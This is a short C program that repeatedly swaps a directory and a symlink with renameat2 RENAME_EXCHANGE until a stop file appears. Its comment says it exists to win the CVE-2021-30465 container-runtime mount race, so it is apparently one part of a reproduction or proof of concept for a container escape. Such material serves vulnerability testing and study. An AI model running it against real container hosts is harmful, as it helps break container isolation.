/* Swap two names atomically, over and over (renameat2 RENAME_EXCHANGE), until DIR/stop exists:
 * a directory and a symlink trade places while a runtime resolves a mount destination through
 * them (the CVE-2021-30465 race).
 *
 * usage: swap DIR A B   (A and B inside DIR) */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv) {
    if (argc < 4) { fprintf(stderr, "usage: swap DIR A B\n"); return 2; }
    int dir = open(argv[1], O_PATH | O_DIRECTORY);
    if (dir < 0) { perror("open"); return 2; }
    unsigned long n = 0;
    while (faccessat(dir, "stop", F_OK, 0) != 0) {
        if (syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE) == 0) n++;
    }
    printf("swaps=%lu\n", n);
    return 0;
}
